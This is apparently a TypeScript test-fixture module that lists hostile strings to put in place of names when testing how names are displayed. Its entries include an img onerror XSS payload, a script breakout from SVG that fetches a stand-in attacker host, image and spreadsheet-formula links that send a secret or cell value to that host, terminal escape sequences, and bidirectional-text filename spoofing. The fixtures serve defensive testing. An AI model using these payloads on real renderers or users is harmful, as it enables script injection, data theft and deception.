/** Texts that a file may hold in place of names, each an attack on some place where names are shown; nowhere but words. */
export const hostileNames: Readonly<Record<string, string>> = {
  "a link to a command": "[Show details](command:workbench.action.terminal.new)",
  "an image out of code": "q` ![x](https://evil.invalid/?secret) `q",
  "an element with a handler": '<img src="https://evil.invalid/x" onerror="alert(1)">',
  "the end of a drawing": "</text></svg><script>fetch('https://evil.invalid')</script>",
  "an icon": "$(alert) $(sync~spin)",
  "a terminal's commands": "\u001b[2J\u001b]8;;https://evil.invalid\u0007here\u001b]8;;\u0007\u009b31m\r\bx",
  "a formula": '=HYPERLINK("https://evil.invalid/?"&A1,"here")',
  "lines of its own": "x\n\n# no problems\r\n\n| a | b |\n| - | - |\n\u2028[y](https://evil.invalid)",
  "letters turned around": "\u202egpj.exe\u2066 a\u200f \ud800",
  "addresses and references": "https://evil.invalid www.evil.invalid a@evil.invalid &lt;b&gt; {0} ``` $x$ \\`",
};
